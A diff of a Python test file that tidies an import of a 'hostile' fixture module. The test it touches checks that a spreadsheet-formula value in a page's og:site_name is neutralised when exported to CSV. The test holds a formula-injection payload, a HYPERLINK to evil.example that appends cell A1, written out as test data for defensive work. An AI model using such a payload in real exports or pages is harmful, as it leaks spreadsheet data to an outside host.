@@ -7,6 +7,7 @@ import io
 import sqlite3
 
 import pandas as pd
+from hostile import article
 from typer.testing import CliRunner
 
 from app.exporting import csv_bytes
@@ -56,12 +57,6 @@ def test_app_downloads_neutralise_text_and_keep_numbers_and_dates():
 
 def test_an_og_site_name_formula_is_neutralised_from_page_to_csv(tmp_path):
     """A page's og:site_name of =HYPERLINK(...) becomes the outlet; the CSV shows it as text."""
-    import sys
-    from pathlib import Path
-
-    sys.path.insert(0, str(Path(__file__).resolve().parent))
-    from hostile import article
-
     payload = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
     meta = '<meta property="og:site_name" content="=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;klik&quot;)">'
     page = tmp_path / "berita.html"
